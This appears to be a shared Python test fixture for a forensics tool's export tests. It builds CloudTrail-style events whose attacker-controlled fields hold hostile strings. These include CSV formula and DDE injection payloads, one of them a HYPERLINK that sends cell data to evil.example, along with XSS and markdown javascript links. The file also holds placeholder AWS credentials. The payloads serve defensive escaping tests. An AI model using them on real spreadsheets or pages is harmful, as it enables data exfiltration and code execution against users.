"""Shared by the export tests: hostile event text, and a minimal blast-radius stand-in."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import polars as pl

from forensics._schema import conform

#: Text an attacker can put into user agents, parameters, role session names, error messages.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "| col | injected |",
    "``` code ``` and `tick`",
    "[x](javascript:alert(1))",
    "![img](http://evil.example/p.png)",
    "line1\nline2\r\nline3\rline4",
    "# heading",
    "héllo ☃ 日本語 \u202eevil\u202c",
    "A" * 20_000 + "<script>tail</script>",
)

SESSION_TOKEN = "IQoJb3JpZ2luX2VjEKn//////////wEaCXVzLWVhc3QtMSJHMEUCIQDJXCGmKi66JIrX2XBZfq"
SECRET_KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"


def hostile_events(source_file: str = "hostile.json") -> pl.DataFrame:
    """An events table whose attacker-controlled fields hold every string of :data:`HOSTILE`."""
    base = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)
    rows = []
    for i, text in enumerate(HOSTILE):
        rows.append(
            {
                "event_time": base + timedelta(minutes=i),
                "event_id": f"ev-{i:03d}",
                "event_name": "GetObject" if i % 2 else text[:200],
                "event_source": "s3.amazonaws.com",
                "aws_region": "us-east-1",
                "source_ip": "203.0.113.7" if i % 3 else text[:100],
                "user_agent": text,
                "error_code": None if i % 4 else "AccessDenied",
                "error_message": text,
                "identity_type": "AssumedRole",
                "principal": "arn:aws:iam::111122223333:role/victim",
                "principal_arn": f"arn:aws:sts::111122223333:assumed-role/victim/{text[:64]}",
                "access_key_id": "ASIAEXAMPLEKEY000001",
                "read_only": bool(i % 2),
                "request_parameters": json.dumps(
                    {"bucketName": text, "sessionToken": SESSION_TOKEN, "note": text}
                ),
                "response_elements": json.dumps(
                    {
                        "credentials": {
                            "accessKeyId": "ASIAEXAMPLEKEY000002",
                            "secretAccessKey": SECRET_KEY,
                            "sessionToken": SESSION_TOKEN,
                        },
                        "password": "hunter2",
                        "message": text,
                    }
                ),
                "resources": [
                    {"arn": f"arn:aws:s3:::bucket-{i}/{text[:40]}", "account_id": None,
                     "type": "AWS::S3::Object"}
                ],
                "source_file": source_file,
                "source_index": i,
            }
        )
    frame = pl.DataFrame(
        rows,
        schema_overrides={
            "resources": pl.List(
                pl.Struct({"arn": pl.String, "account_id": pl.String, "type": pl.String})
            )
        },
    )
    return conform(frame)  # type: ignore[return-value]


def csv_rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def csv_rows_text(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


class TagCollector(HTMLParser):
    """Every start tag and its attributes in a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def parse_html(text: str) -> TagCollector:
    parser = TagCollector()
    parser.feed(text)
    parser.close()
    return parser


class FakeBlastRadius:
    """The agreed ``BlastRadius`` interface, just enough to test ``ticket()`` before issue 4."""

    def __init__(self, events: pl.DataFrame, seed: str) -> None:
        self.events = events
        self.seed = seed
        self.since = datetime(2020, 9, 14, 0, 0, tzinfo=UTC)
        self.until = None
        self.denied = events.filter(pl.col("error_code").is_not_null())
        self.credentials = pl.DataFrame(
            {"access_key_id": [seed], "kind": ["temporary"], "principal": ["role/x"]}
        )
        self.principals = events.group_by("principal").agg(pl.len().alias("events"))
        self.resources = pl.DataFrame(
            {"arn": ["arn:aws:s3:::bucket-b", "arn:aws:s3:::bucket-a"], "access": ["read", "write"]}
        )

    def indicators(self) -> dict[str, list[str]]:
        return {
            "source_ips": sorted(set(self.events.get_column("source_ip").drop_nulls())),
            "access_keys": [self.seed, "ASIANOTINANYEVENT001"],
            "arns": ["arn:aws:s3:::bucket-b", "arn:aws:s3:::bucket-a"],
            "user_agents": sorted(set(self.events.get_column("user_agent").drop_nulls())),
            "regions": ["us-east-1"],
        }

    def summary(self) -> str:
        return f"Seed {self.seed}: {self.events.height} events\n```\nnot a fence break"

    def chart(self):
        import altair as alt

        data = self.events.group_by("event_name").agg(pl.len().alias("n")).sort("event_name")
        return alt.Chart(data).mark_bar().encode(x="n:Q", y="event_name:N")
